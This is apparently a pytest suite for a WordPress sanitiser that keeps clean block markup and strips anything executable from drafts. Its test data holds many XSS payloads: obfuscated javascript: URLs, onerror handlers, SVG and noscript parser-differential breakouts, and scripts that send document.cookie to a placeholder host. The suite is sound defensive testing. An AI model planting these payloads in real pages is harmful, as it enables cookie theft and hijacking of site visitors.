"""Markup kept from a draft: byte for byte when clean; nothing executable ever kept; what went is said."""

from __future__ import annotations

import json
import re

import pytest
from bs4 import BeautifulSoup

from wp_seo_bridge.content import Placeholder, TextBlock, parse, render
from wp_seo_bridge.draft_markup import Removed, executable_parts, keep


def executable(markup: str) -> list[str]:
    """What a browser could run in ``markup``, found without the bridge's own code (an independent check)."""
    found = []
    soup = BeautifulSoup(markup, "lxml")
    for element in soup.find_all(True):
        if element.name in ("script", "iframe", "object", "embed", "style", "form", "base", "link", "template"):
            found.append(element.name)
        for name, value in element.attrs.items():
            value = " ".join(value) if isinstance(value, list) else value
            if name.lower().startswith("on"):
                found.append(name)
            squeezed = re.sub(r"[\x00-\x20]", "", value).lower()
            if squeezed.startswith(("javascript:", "vbscript:")) or (
                squeezed.startswith("data:") and not re.match(r"data:image/(png|jpe?g|gif|webp)[;,]", squeezed)
            ):
                found.append(f"{name}={squeezed[:11]}")
    # And what a lenient parser might miss, by the bytes.
    if re.search(r"<\s*script", markup, re.I):
        found.append("<script")
    if re.search(r"[\s\"'/]on[a-z]+\s*=", markup, re.I):
        found.append("on*=")
    return found


# -- clean elements stay byte for byte ------------------------------------------------------------

CLEAN_CORE_BLOCKS = [
    '<!-- wp:image {"id":41,"sizeSlug":"large","linkDestination":"none"} -->\n<figure class="wp-block-image size-large">'
    '<img src="https://medias.example/2024/04/ecole.jpg" alt="La cour de l’école Jean-Macé" class="wp-image-41"/>'
    '<figcaption class="wp-element-caption">La cour, avant les travaux.</figcaption></figure>\n<!-- /wp:image -->',
    '<!-- wp:gallery {"linkTo":"none"} -->\n<figure class="wp-block-gallery has-nested-images columns-default is-cropped">'
    '<!-- wp:image {"id":42} -->\n<figure class="wp-block-image"><img src="https://medias.example/a.jpg" alt="" '
    'class="wp-image-42"/></figure>\n<!-- /wp:image --></figure>\n<!-- /wp:gallery -->',
    '<!-- wp:embed {"url":"https://www.youtube.com/watch?v=dQw4w9WgXcQ","type":"video","providerNameSlug":"youtube"} -->\n'
    '<figure class="wp-block-embed is-type-video is-provider-youtube"><div class="wp-block-embed__wrapper">\n'
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ\n</div></figure>\n<!-- /wp:embed -->",
    '<!-- wp:video {"id":7} -->\n<figure class="wp-block-video"><video controls src="https://medias.example/conseil.mp4">'
    "</video></figure>\n<!-- /wp:video -->",
    '<!-- wp:audio {"id":8} -->\n<figure class="wp-block-audio"><audio controls src="https://medias.example/interview.mp3">'
    "</audio></figure>\n<!-- /wp:audio -->",
    '<!-- wp:file {"id":9,"href":"https://medias.example/budget.pdf"} -->\n<div class="wp-block-file"><a id="wp-block-file--'
    'media-9" href="https://medias.example/budget.pdf">budget.pdf</a><a href="https://medias.example/budget.pdf" '
    'class="wp-block-file__button wp-element-button" download aria-describedby="wp-block-file--media-9">Télécharger</a>'
    "</div>\n<!-- /wp:file -->",
    '<!-- wp:table -->\n<figure class="wp-block-table"><table><tbody><tr><td>Écoles</td><td>12 &amp; 3</td></tr>'
    "</tbody></table></figure>\n<!-- /wp:table -->",
    '<!-- wp:code -->\n<pre class="wp-block-code"><code>&lt;script&gt;alert(1)&lt;/script&gt; onclick="x"</code></pre>\n'
    "<!-- /wp:code -->",
    '<!-- wp:preformatted -->\n<pre class="wp-block-preformatted">Ligne 1\n  javascript: ce n’est qu’un mot</pre>\n'
    "<!-- /wp:preformatted -->",
    '<!-- wp:acme/newsletter-signup {"listId":"fr-2024","title":"Inscrivez-vous \\u003e"} /-->',
]


@pytest.mark.parametrize("block", CLEAN_CORE_BLOCKS, ids=lambda b: re.search(r"wp:([\w/-]+)", b).group(1))
def test_clean_core_blocks_are_kept_byte_for_byte(block):
    document = parse(f"<!-- wp:paragraph -->\n<p>Le texte.</p>\n<!-- /wp:paragraph -->\n\n{block}")
    assert [b.markup for b in document.blocks if isinstance(b, Placeholder)] == [block]
    assert not document.removed
    assert block in render(document.blocks, "blocks")


# -- what is removed, and how it is reported -------------------------------------------------------


@pytest.mark.parametrize(
    ("markup", "origin", "report"),
    [
        ("<script>document.location='https://collecte.example/?'+document.cookie</script>", "fragment", "1 script element"),
        ('<img src="https://medias.example/a.jpg" onerror="alert(1)" alt="Une école">', "media", "1 onerror attribute"),
        ('<img src="x.jpg" ONERROR="alert(1)" onLoad="y()">', "media", "1 onerror attribute, 1 onload attribute"),
        ('<p><a href="javascript:alert(1)">lien</a></p>', "fragment", "1 javascript: URL"),
        ('<p><a href="JaVaScRiPt&#58;alert(1)">lien</a></p>', "fragment", "1 javascript: URL"),
        ('<p><a href="java&#9;script:alert(1)">lien</a></p>', "fragment", "1 javascript: URL"),
        ('<p><a href=" &#14; javascript:alert(1)">lien</a></p>', "fragment", "1 javascript: URL"),
        ('<p><a href="vbscript:msgbox(1)">lien</a></p>', "fragment", "1 vbscript: URL"),
        ('<p><a href="data:text/html;base64,PHNjcmlwdD4=">lien</a></p>', "fragment", "1 data: URL"),
        ('<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="">', "media", "1 data: URL"),
        ('<img src="x.jpg" srcset="data:image/svg+xml,x 2x" alt="">', "media", "1 data: URL"),
        ('<p style="width: expression(alert(1))">Texte</p>', "fragment", "1 style attribute"),
        ('<p>Texte</p><style>body{display:none}</style>', "fragment", "1 style element"),
        ('<form action="https://collecte.example"><input name="q"></form><p>Texte</p>', "fragment", "1 form element"),
        ('<p>Texte</p><object data="https://x.example/a.swf"></object><embed src="https://x.example/b.swf">', "fragment",
         "1 object element, 1 embed element"),
        ('<meta http-equiv="refresh" content="0;url=https://collecte.example"><p>Texte</p>', "fragment",
         "1 meta http-equiv element"),
        ('<base href="https://collecte.example/"><link rel="stylesheet" href="https://x.example/a.css"><p>Texte</p>',
         "fragment", "1 base element, 1 link element"),
        ('<template shadowrootmode="open"><img src="x" onerror="alert(1)"></template><p>Texte</p>', "fragment",
         "1 template element"),
        ('<svg><a xlink:href="javascript:alert(1)"><text>carte</text></a></svg>', "block", "1 javascript: URL"),
        ('<svg><animate attributeName="href" values="javascript:alert(1)"/></svg><p>Texte</p>', "block",
         "1 javascript: URL"),
        ('<svg><rect width="9" height="9"><set attributeName="onmouseover" to="alert(1)"/></rect></svg>', "block",
         "1 animated event-handler attribute"),
        # An HTML5 parser ends "<!-->" at once: the script after it runs.
        ("<p>Texte<!--><script>alert(1)</script>--></p>", "block", "1 script element"),
        ('<p>Texte</p><iframe src="https://www.google.com/maps/embed?pb=1"></iframe>', "fragment", "1 iframe element"),
        ('<p>Texte</p><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "fragment", "1 iframe element"),
    ],
)
def test_executable_markup_is_removed_and_reported(markup, origin, report):
    kept = keep(markup, origin)
    assert str(kept.removed) == report
    assert kept.markup is None or not executable(kept.markup), kept.markup


def test_what_is_not_executable_stays_when_an_element_is_sanitised():
    block = ('<!-- wp:image {"id":41,"sizeSlug":"large"} -->\n<figure class="wp-block-image size-large">'
             '<a href="https://medias.example/grand.jpg" rel="noopener"><img src="https://medias.example/ecole.jpg" '
             'alt="La cour" class="wp-image-41" width="640" height="360" loading="lazy" '
             'srcset="https://medias.example/ecole-300.jpg 300w, https://medias.example/ecole.jpg 640w" '
             'sizes="(max-width: 640px) 100vw, 640px" onerror="alert(1)"/></a>'
             '<figcaption class="wp-element-caption">La cour de l’école.</figcaption></figure>\n<!-- /wp:image -->')
    kept = keep(block, "block")
    assert str(kept.removed) == "1 onerror attribute"
    assert kept.markup.startswith('<!-- wp:image {"id":41,"sizeSlug":"large"} -->\n<figure class="wp-block-image size-large">')
    assert kept.markup.endswith("</figure>\n<!-- /wp:image -->")
    image = BeautifulSoup(kept.markup, "html.parser").img
    assert {k: image[k] for k in ("src", "alt", "width", "height", "loading", "sizes")} == {
        "src": "https://medias.example/ecole.jpg", "alt": "La cour", "width": "640", "height": "360", "loading": "lazy",
        "sizes": "(max-width: 640px) 100vw, 640px",
    }
    assert image["class"] == ["wp-image-41"] and "640w" in image["srcset"] and "onerror" not in image.attrs
    assert "La cour de l’école." in kept.markup and 'href="https://medias.example/grand.jpg"' in kept.markup


@pytest.mark.parametrize("image_type", ["png", "jpeg", "gif", "webp"])
def test_a_raster_data_image_is_kept(image_type):
    markup = f'<img src="data:image/{image_type};base64,iVBORw0KGgo=" alt="Pixel">'
    assert keep(markup, "media").markup == markup


def test_a_custom_html_block_with_a_script_is_dropped_whole():
    block = ('<!-- wp:html -->\n<div class="encart"><p>Votre avis compte</p><script>fetch("https://collecte.example/"'
             "+document.cookie)</script></div>\n<!-- /wp:html -->")
    kept = keep(block, "html")
    assert kept.markup is None and str(kept.removed) == "1 custom HTML block, 1 script element"


def test_a_custom_html_block_without_script_is_sanitised_not_dropped():
    block = '<!-- wp:html -->\n<div class="encart" onclick="suivre()"><p>Abonnez-vous</p></div>\n<!-- /wp:html -->'
    kept = keep(block, "html")
    assert kept.markup == '<!-- wp:html -->\n<div class="encart"><p>Abonnez-vous</p></div>\n<!-- /wp:html -->'
    assert str(kept.removed) == "1 onclick attribute"


TWEET = ('<!-- wp:html -->\n<blockquote class="twitter-tweet"><p lang="fr">Le budget des écoles est voté.</p>&mdash; '
         'Mairie (@mairie) <a href="https://twitter.com/mairie/status/1">avril 2024</a></blockquote> <script async '
         'src="https://platform.twitter.com/widgets.js" charset="utf-8"></script>\n<!-- /wp:html -->')


def test_a_widget_from_a_trusted_host_is_kept_byte_for_byte_and_only_then():
    assert keep(TWEET, "html", ["platform.twitter.com"]).markup == TWEET
    assert keep(TWEET, "html", ["twitter.com"]).markup == TWEET  # subdomains of a listed host
    for hosts in ([], ["witter.com"], ["platform.twitter.com.collecte.example"], ["youtube.com"]):
        kept = keep(TWEET, "html", hosts)
        assert kept.markup is None and str(kept.removed) == "1 custom HTML block, 1 script element", hosts
    # An inline script is never trusted, whatever the list; nor is a trusted script with a handler.
    inline = TWEET.replace("</script>", "</script><script>alert(1)</script>")
    assert keep(inline, "html", ["platform.twitter.com"]).markup is None
    handler = TWEET.replace('charset="utf-8"', 'charset="utf-8" onload="alert(1)"')
    assert keep(handler, "html", ["platform.twitter.com"]).markup is None
    # The list applies to embeds, Custom HTML and classic fragments only, never to other blocks.
    assert keep(TWEET, "block", ["platform.twitter.com"]).markup != TWEET


def test_an_iframe_in_an_embed_block_needs_a_trusted_host():
    block = ('<!-- wp:embed {"url":"https://video.example/v/42","type":"rich"} -->\n<figure class="wp-block-embed">'
             '<div class="wp-block-embed__wrapper">\nhttps://video.example/v/42\n<iframe src="https://video.example/embed/42">'
             "</iframe></div></figure>\n<!-- /wp:embed -->")
    assert keep(block, "embed", ["video.example"]).markup == block
    kept = keep(block, "embed")
    assert str(kept.removed) == "1 iframe element" and "<iframe" not in kept.markup
    assert kept.markup.startswith('<!-- wp:embed {"url":"https://video.example/v/42","type":"rich"} -->')
    assert "https://video.example/v/42" in kept.markup


def test_removed_tally_reads_as_a_sentence():
    tally = Removed.of(["script element", "onerror attribute"]) + Removed.of(["script element", "javascript: URL"])
    assert str(tally) == "2 script elements, 1 onerror attribute, 1 javascript: URL"
    assert tally.as_dict() == {"script element": 2, "onerror attribute": 1, "javascript: URL": 1}
    assert not Removed() and str(Removed()) == ""


# -- drafts: classic, block, plain ---------------------------------------------------------------------

CLASSIC = """<p>Le conseil municipal a voté mardi soir le budget de la rénovation des écoles.</p>
<script>document.location='https://collecte.example/?c='+document.cookie</script>
<p>Les associations de parents saluent une décision attendue depuis longtemps.</p>
"""


def test_a_bare_script_between_classic_paragraphs_is_removed():
    document = parse(CLASSIC)
    assert [b.kind for b in document.blocks] == ["paragraph", "paragraph"]
    assert str(document.removed) == "1 script element"
    assert not executable(render(document.blocks, "classic"))


@pytest.mark.parametrize("wrap", [
    lambda p: f"<p>{p}</p>",
    lambda p: f"<!-- wp:paragraph -->\n<p>{p}</p>\n<!-- /wp:paragraph -->",
    lambda p: p,
], ids=["classic", "blocks", "classic-without-p"])
def test_an_inline_image_becomes_its_own_element_and_its_text_is_text_once(wrap):
    image = '<img src="https://medias.example/ecole.jpg" onerror="alert(document.cookie)" alt="Une école" width="640">'
    text = "Les travaux commenceront pendant les vacances d’été. Les parents d’élèves seront informés par courrier."
    document = parse(wrap(f"{image} {text}") + "\n\n" + wrap("Le chantier durera tout l’été."))
    kept, paragraph = document.blocks[0], document.blocks[1]
    assert isinstance(kept, Placeholder) and kept.label == "image"
    assert BeautifulSoup(kept.markup, "html.parser").img.attrs == {
        "src": "https://medias.example/ecole.jpg", "alt": "Une école", "width": "640"
    }
    assert "Les travaux" not in kept.markup
    assert isinstance(paragraph, TextBlock) and paragraph.text == text
    assert str(document.removed) == "1 onerror attribute"
    output = render(document.blocks, "blocks")
    assert output.count("parents d’élèves seront informés") == 1 and not executable(output)


def test_an_image_after_the_text_follows_it_and_a_clean_one_is_byte_for_byte():
    image = '<a href="https://medias.example/grand.jpg"><img src="https://medias.example/petit.jpg" alt="Plan" /></a>'
    document = parse(f"<p>Le plan des travaux est affiché en mairie. {image}</p>")
    assert [type(b).__name__ for b in document.blocks] == ["TextBlock", "Placeholder"]
    assert document.blocks[1].markup == image and not document.removed
    assert document.blocks[0].text == "Le plan des travaux est affiché en mairie."


@pytest.mark.parametrize(("hosts", "kept"), [([], False), (["video.example"], True)])
def test_an_iframe_inside_a_paragraph_is_kept_apart_only_from_a_trusted_host(hosts, kept):
    frame = '<iframe src="https://video.example/embed/42" width="560" height="315"></iframe>'
    document = parse(f"<p>La séance du conseil est en ligne. {frame}</p>", trusted_embed_hosts=hosts)
    assert document.blocks[0].text == "La séance du conseil est en ligne."
    assert [b.markup for b in document.blocks[1:]] == ([frame] if kept else [])
    assert str(document.removed) == ("" if kept else "1 iframe element")


def test_scripts_and_handlers_in_text_are_reported_and_never_rendered():
    document = parse('<p onclick="suivre()">Le maire a <a href="javascript:void(0)" onmouseover="x()">répondu</a> '
                     "aux questions.<script>alert(1)</script></p>")
    assert document.blocks[0].text == "Le maire a répondu aux questions."
    assert str(document.removed) == "1 onclick attribute, 1 javascript: URL, 1 onmouseover attribute, 1 script element"
    assert not executable(render(document.blocks, "classic"))


def test_plain_text_is_text_and_a_script_in_it_is_markup():
    document = parse("Le taux est passé de 3 % à <5 % en un an.\nUne seconde ligne de texte, sans balise.")
    assert document.format == "plain" and document.blocks[0].text == "Le taux est passé de 3 % à <5 % en un an."
    # WordPress would run a script written in a plain-text draft: it is markup, removed.
    document = parse("Le maire a écrit dans son message.\n<script>alert(1)</script>\nUne seconde ligne de texte.")
    assert str(document.removed) == "1 script element"
    assert not executable(render(document.blocks, "classic"))


def test_an_element_left_open_cannot_swallow_the_next_one():
    # Alone, each element is harmless; together, the comment opened in the first closes in the
    # second's attribute, and the script after it would run.
    draft = '<div>Un encadré<!--</div>\n\n<div title="--><script>alert(1)</script>">La suite</div>'
    document = parse(draft)
    output = render(document.blocks, "classic")
    assert str(document.removed) == "1 unclosed comment or raw-text element"
    # The second element holds text: gone into, its text is text to rewrite, and its start tag is gone.
    assert not executable_parts(output) and [b.text for b in document.text_blocks] == ["La suite"]
    assert str(executable_parts(draft)) == "1 script element"


def test_the_last_check_before_writing_refuses_an_executable_article():
    from types import SimpleNamespace

    from wp_seo_bridge.write_back import refuse_executable as _refuse_executable
    from wp_seo_bridge.errors import WriteRefused
    from tests.support.factories import settings_for

    settings = settings_for("https://site.test", "ed", None, rewrite__trusted_embed_hosts=["platform.twitter.com"])
    post = SimpleNamespace(id=7)
    _refuse_executable('<p>Texte</p><script src="https://platform.twitter.com/widgets.js"></script>', settings, post)
    with pytest.raises(WriteRefused, match=r"post 7 would write executable markup \(1 onerror attribute\)"):
        _refuse_executable('<p>Texte</p><img src="x" onerror="alert(1)">', settings, post)


def test_executable_parts_of_a_whole_article():
    # Each piece alone is harmless; together, the comment opened in one closes in the next.
    article = '<p>Un<!--</p>\n\n<p><img alt="--><img src=x onerror=alert(1)>"></p>'
    assert str(executable_parts(article)) == "1 onerror attribute"


def test_text_fields_never_carry_a_tag_even_entity_encoded():
    from wp_seo_bridge.article import plain

    title = plain("Budget &lt;img src=x onerror=alert(1)&gt; voté &lt;/b&gt;")
    assert title == "Budget &lt;img src=x onerror=alert(1)> voté &lt;/b>"
    assert not executable_parts(title) and BeautifulSoup(title, "lxml").find("img") is None
    assert plain("Écart &lt; 5 % <em>net</em>") == "Écart < 5 % net"


# -- parser differentials: what a browser reads differently from a parser -------------------------

def browser_readings(markup: str) -> list[str]:
    """What could run in ``markup`` as a browser reads it in a post's page, with scripting on and off,
    found straight from an HTML5 parser's tree (not through the bridge's own inspection)."""
    from selectolax.lexbor import LexborHTMLParser

    found = []
    for scripting in (False, True):
        tree = LexborHTMLParser(f"<!DOCTYPE html><body><div>{markup}", scripting=scripting)
        for node in tree.root.traverse(include_text=False):
            tag = node.tag or ""
            if tag in ("script", "iframe", "object", "embed", "style", "form", "base", "link", "template", "noscript",
                       "noembed", "noframes", "xmp", "plaintext"):
                found.append(tag)
            found += [name for name in node.attributes if name.lower().startswith("on")]
    return found


#: Markup whose raw text a browser ends where a parser may not: each hides a live image in an attribute.
DIFFERENTIALS = {
    "noscript-attribute": ('<noscript><p title="</noscript><img src=x onerror=alert(31)>"></noscript>', "1 noscript element"),
    "noscript-comment": ("<noscript><!--</noscript><img src=x onerror=alert(1)>--></noscript>", "1 noscript element"),
    "noscript-upper": ('<NoScript><p title="</NOSCRIPT ><img src=x onerror=alert(1)>"></noscript>', "1 noscript element"),
    "noembed": ('<noembed><p title="</noembed><img src=x onerror=alert(2)>"></noembed>', "noembed element"),
    "noframes": ('<noframes><p title="</noframes><img src=x onerror=alert(3)>"></noframes>', "noframes element"),
    "xmp": ('<xmp><p title="</xmp><img src=x onerror=alert(4)>"></xmp>', "xmp element"),
    "iframe": ('<iframe><p title="</iframe><img src=x onerror=alert(5)>"></iframe>', "iframe element"),
    "textarea": ('<textarea><p title="</textarea><img src=x onerror=alert(6)>"></textarea>', "onerror attribute"),
    "title": ('<title><p title="</title><img src=x onerror=alert(7)>"></title>', "onerror attribute"),
    "svg-style": ('<svg><style><img src=x onerror=alert(8)></style></svg>', "style element"),
    "math-style": ('<math><mtext><style><p title="</style><img src=x onerror=alert(9)>"></style></mtext></math>',
                   "style element"),
    "svg-breakout": ('<svg></p><style><a id="</style><img src=x onerror=alert(10)>"></style></svg>', "style element"),
    "math-mglyph": ('<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1'
                    '&Tab;onerror=alert(11)&gt;"></mglyph></table></mtext></math>', "style element"),
    "body-attribute": ("<body onpageshow=alert(12)>", "onpageshow attribute"),
}

INTRO_TEXT = "Le conseil municipal a voté mardi soir le budget de la rénovation des écoles du quartier."
OUTRO_TEXT = "Les associations de parents saluent une décision attendue depuis longtemps par les familles."


def _paragraph_block(html: str) -> str:
    return f"<!-- wp:paragraph -->\n<p>{html}</p>\n<!-- /wp:paragraph -->"


#: Where a draft can hold kept markup: each places ``{}`` in it, with text around.
CONTEXTS = {
    "custom-html": lambda p: "\n\n".join([_paragraph_block(INTRO_TEXT), f"<!-- wp:html -->\n{p}\n<!-- /wp:html -->",
                                          _paragraph_block(OUTRO_TEXT)]),
    "classic-div": lambda p: f"<p>{INTRO_TEXT}</p>\n\n<div class=\"encart\">{p}</div>\n\n<p>{OUTRO_TEXT}</p>",
    "image-figure": lambda p: "\n\n".join([
        _paragraph_block(INTRO_TEXT),
        '<!-- wp:image {"id":41} -->\n<figure class="wp-block-image"><img src="https://medias.example/a.jpg" alt="La cour"'
        f' class="wp-image-41"/>{p}<figcaption>La cour.</figcaption></figure>\n<!-- /wp:image -->',
        _paragraph_block(OUTRO_TEXT)]),
    "table-figure": lambda p: "\n\n".join([
        _paragraph_block(INTRO_TEXT),
        f'<!-- wp:table -->\n<figure class="wp-block-table"><table><tbody><tr><td>Écoles</td><td>{p}</td></tr></tbody>'
        "</table></figure>\n<!-- /wp:table -->",
        _paragraph_block(OUTRO_TEXT)]),
    "caption-classic": lambda p: (f"<p>{INTRO_TEXT}</p>\n\n[caption id=\"attachment_7\" width=\"300\"]<img src=\"https://"
                                  f"medias.example/carte.jpg\" alt=\"Carte\" /> {p} La carte.[/caption]\n\n<p>{OUTRO_TEXT}</p>"),
    "caption-block": lambda p: "\n\n".join([
        _paragraph_block(INTRO_TEXT),
        f'<!-- wp:shortcode -->\n[caption id="attachment_7" width="300"]<img src="https://medias.example/carte.jpg" '
        f'alt="Carte" /> {p} La carte.[/caption]\n<!-- /wp:shortcode -->',
        _paragraph_block(OUTRO_TEXT)]),
    "inline-token": lambda p: f"<p>{INTRO_TEXT} Le détail figure au compte rendu [footnote]{p}[/footnote].</p>\n\n"
                              f"<p>{OUTRO_TEXT}</p>",
}


@pytest.mark.parametrize("context", CONTEXTS)
@pytest.mark.parametrize("payload", DIFFERENTIALS)
def test_what_a_browser_reads_differently_is_never_kept(payload, context):
    markup, report = DIFFERENTIALS[payload]
    draft = CONTEXTS[context](markup)
    assert browser_readings(draft)  # each hides something live, for some browser
    document = parse(draft)
    assert report in str(document.removed), document.removed
    for output in ("blocks", "classic"):
        rendered = render(document.blocks, output, document.shortcodes)
        assert browser_readings(rendered) == [], rendered
        assert not executable_parts(rendered) and not executable(rendered)
        assert rendered.count(INTRO_TEXT[:40]) == 1 and rendered.count(OUTRO_TEXT) == 1
    assert INTRO_TEXT[:40] in document.plain_text() and OUTRO_TEXT in document.plain_text()


@pytest.mark.parametrize("payload", DIFFERENTIALS)
def test_the_last_check_reads_the_article_as_every_browser_does(payload):
    markup, _ = DIFFERENTIALS[payload]
    article = f"<p>{INTRO_TEXT}</p>\n\n<div>{markup}</div>\n\n<p>{OUTRO_TEXT}</p>\n"
    assert executable_parts(article)


def test_a_noscript_goes_with_all_it_holds_whichever_way_it_is_read():
    kept = keep('<div><p>Le plan</p><noscript><p title="</noscript><img src=x onerror=alert(31)>"></noscript></div>',
                "fragment")
    assert kept.markup == "<div><p>Le plan</p></div>" and str(kept.removed) == "1 noscript element"
    pixel = '<!-- wp:html -->\n<p>Suivez-nous</p><noscript><img src="https://stats.example/p.gif"></noscript>\n<!-- /wp:html -->'
    kept = keep(pixel, "html")
    assert kept.markup == "<!-- wp:html -->\n<p>Suivez-nous</p>\n<!-- /wp:html -->" and str(kept.removed) == "1 noscript element"


# -- block attributes ------------------------------------------------------------------------------

@pytest.mark.parametrize(
    ("block", "cleaned", "report"),
    [
        ('<!-- wp:acme/cta {"url":"javascript:alert(1)","onclick":"alert(2)"} /-->', "<!-- wp:acme/cta /-->",
         "1 javascript: URL, 1 onclick block attribute"),
        ('<!-- wp:acme/cta {"label":"Lire","html":"<img src=x onerror=alert(3)>"} /-->',
         '<!-- wp:acme/cta {"label":"Lire","html":"\\u003cimg src=\\u0022x\\u0022\\u003e"} /-->', "1 onerror attribute"),
        # (A cover holding only an image is kept whole; one holding text is gone into, see test_containers.py.)
        ('<!-- wp:cover {"url":"javascript:alert(4)","dimRatio":50} -->\n<div class="wp-block-cover"><img src="https://'
         'medias.example/cour.jpg" alt="La cour"/></div>\n<!-- /wp:cover -->',
         '<!-- wp:cover {"dimRatio":50} -->\n<div class="wp-block-cover"><img src="https://medias.example/cour.jpg" '
         'alt="La cour"/></div>\n<!-- /wp:cover -->',
         "1 javascript: URL"),
        # Read as a browser reads a URL: entities, controls and case do not hide a scheme.
        ('<!-- wp:acme/link {"href":"JaVa&#x09;ScRipt&colon;alert(5)","title":"Le plan"} /-->',
         '<!-- wp:acme/link {"title":"Le plan"} /-->', "1 javascript: URL"),
        ('<!-- wp:acme/link {"href":" \\u0001vbscript:msgbox(1)"} /-->', "<!-- wp:acme/link /-->", "1 vbscript: URL"),
        ('<!-- wp:acme/link {"href":"data:text/html;base64,PHNjcmlwdD4="} /-->', "<!-- wp:acme/link /-->", "1 data: URL"),
        # At any depth; what stays is written the way WordPress writes it.
        ('<!-- wp:acme/slider {"slides":[{"img":"https://medias.example/a.jpg","onLoad":"x()"},{"caption":"Été -- 2024 '
         '& après","link":"javascript:void(0)"}]} /-->',
         '<!-- wp:acme/slider {"slides":[{"img":"https://medias.example/a.jpg"},{"caption":"Été \\u002d\\u002d 2024 '
         '\\u0026 après"}]} /-->', "1 onload block attribute, 1 javascript: URL"),
        # A block inside a kept block is cleaned too.
        ('<!-- wp:gallery -->\n<figure class="wp-block-gallery"><!-- wp:image {"id":42,"href":"javascript:alert(6)"} -->\n'
         '<figure class="wp-block-image"><img src="https://medias.example/a.jpg" alt="A"/></figure>\n<!-- /wp:image -->'
         "</figure>\n<!-- /wp:gallery -->",
         '<!-- wp:gallery -->\n<figure class="wp-block-gallery"><!-- wp:image {"id":42} -->\n'
         '<figure class="wp-block-image"><img src="https://medias.example/a.jpg" alt="A"/></figure>\n<!-- /wp:image -->'
         "</figure>\n<!-- /wp:gallery -->", "1 javascript: URL"),
    ],
)
def test_block_attributes_are_cleaned_and_what_went_is_reported(block, cleaned, report):
    document = parse(f"{_paragraph_block(INTRO_TEXT)}\n\n{block}\n\n{_paragraph_block(OUTRO_TEXT)}")
    assert [b.markup for b in document.blocks if isinstance(b, Placeholder)] == [cleaned]
    assert str(document.removed) == report
    rendered = render(document.blocks, "blocks")
    assert not re.search(r"(?:java|vb)script|onclick|onload|onerror|data:text", rendered, re.I)


@pytest.mark.parametrize("block", [
    '<!-- wp:acme/cta {"url":"https://mairie.example/budget","label":"Le budget \\u003e 2 M€","note":"data: 12 %",'
    '"visible":true,"html":"\\u003cstrong\\u003eInscrivez-vous\\u003c/strong\\u003e"} /-->',
    '<!-- wp:image {"id":41,"url":"data:image/png;base64,iVBORw0KGgo=","caption":"Écart \\u003c 5 %"} -->\n'
    '<figure class="wp-block-image"><img src="data:image/png;base64,iVBORw0KGgo=" alt=""/></figure>\n<!-- /wp:image -->',
    '<!-- wp:acme/odd   {"a":1,  "b":"x"}   /-->',
])
def test_clean_block_attributes_stay_byte_for_byte(block):
    document = parse(f"{_paragraph_block(INTRO_TEXT)}\n\n{block}")
    assert [b.markup for b in document.blocks if isinstance(b, Placeholder)] == [block]
    assert not document.removed


def test_block_attributes_are_written_as_wordpress_writes_them():
    from wp_seo_bridge.block_attributes import serialize_block_attributes

    attributes = {"t": 'Il a dit "oui" -- <b> & </b>', "path": "a/b", "back": "x\\", "é": ["ü", 1.5, None, True]}
    encoded = serialize_block_attributes(attributes)
    assert encoded == ('{"t":"Il a dit \\u0022oui\\u0022 \\u002d\\u002d \\u003cb\\u003e \\u0026 \\u003c/b\\u003e",'
                       '"path":"a/b","back":"x\\\\","é":["ü",1.5,null,true]}')
    assert json.loads(encoded) == attributes


# -- what the bridge never keeps never swallows the draft's text ----------------------------------

ONE = "Le conseil municipal a voté mardi soir le budget de la rénovation des écoles après un long débat."
TWO = "Les travaux commenceront pendant les vacances d’été et les parents seront informés par courrier."
THREE = "Le vote a réuni une large majorité des élus présents malgré les réserves de l’opposition."

#: Markup the bridge never keeps, and how its removal is reported.
NEVER_KEPT = {
    "base": ('<base href="https://collecte.example/">', "1 base element"),
    "meta": ('<meta http-equiv="refresh" content="0;url=https://collecte.example/">', "1 meta http-equiv element"),
    "link": ('<link rel="stylesheet" href="https://collecte.example/a.css">', "1 link element"),
    "style": ("<style>body{display:none}</style>", "1 style element"),
    "script": ("<script>document.location='https://collecte.example/?'+document.cookie</script>", "1 script element"),
    "stray-noscript": ("<noscript>", "1 noscript element"),
    "noscript": ('<noscript><img src="https://collecte.example/p.gif"></noscript>', "1 noscript element"),
    "stray-script": ('<script src="https://collecte.example/a.js">', "1 script element"),
}


def _classic(markup: str, where: str) -> str:
    return {
        "own-line": f"<p>{ONE}</p>\n{markup}\n<p>{TWO}</p>\n\n<p>{THREE}</p>",
        "own-chunk": f"<p>{ONE}</p>\n\n{markup}\n\n<p>{TWO}</p>\n\n<p>{THREE}</p>",
        "first": f"{markup}\n<p>{ONE}</p>\n\n<p>{TWO}</p>\n\n<p>{THREE}</p>",
        "last": f"<p>{ONE}</p>\n\n<p>{TWO}</p>\n\n<p>{THREE}</p>\n{markup}",
        "in-a-paragraph": f"<p>{ONE}</p>\n\n<p>{TWO} {markup}</p>\n\n<p>{THREE}</p>",
        "between-bare-lines": f"<p>{ONE}</p>\n\n{TWO}\n{markup}\n\n{THREE}",
    }[where]


def _blocks(markup: str, where: str) -> str:
    return {
        "between-blocks": "\n\n".join([_paragraph_block(ONE), markup, _paragraph_block(TWO), _paragraph_block(THREE)]),
        "between-blocks-tight": _paragraph_block(ONE) + markup + _paragraph_block(TWO) + "\n\n" + _paragraph_block(THREE),
        "in-a-paragraph": "\n\n".join([_paragraph_block(ONE), _paragraph_block(f"{TWO} {markup}"), _paragraph_block(THREE)]),
        "beside-a-paragraph": "\n\n".join([_paragraph_block(ONE), f"<!-- wp:paragraph -->\n{markup}<p>{TWO}</p>\n"
                                           "<!-- /wp:paragraph -->", _paragraph_block(THREE)]),
        "beside-a-heading": "\n\n".join([_paragraph_block(ONE), f"<!-- wp:heading -->\n<h2>{TWO}</h2>{markup}\n"
                                         "<!-- /wp:heading -->", _paragraph_block(THREE)]),
    }[where]


def _plain(markup: str, where: str) -> str:
    return {
        "own-line": f"{ONE}\n{markup}\n{TWO}\n{THREE}",
        "in-a-line": f"{ONE}\n{TWO} {markup}\n{THREE}",
        "first": f"{markup}\n{ONE}\n{TWO}\n{THREE}",
    }[where]


PLACES = [("classic", w) for w in ("own-line", "own-chunk", "first", "last", "in-a-paragraph", "between-bare-lines")] + [
    ("blocks", w) for w in ("between-blocks", "between-blocks-tight", "in-a-paragraph", "beside-a-paragraph",
                            "beside-a-heading")] + [("plain", w) for w in ("own-line", "in-a-line", "first")]


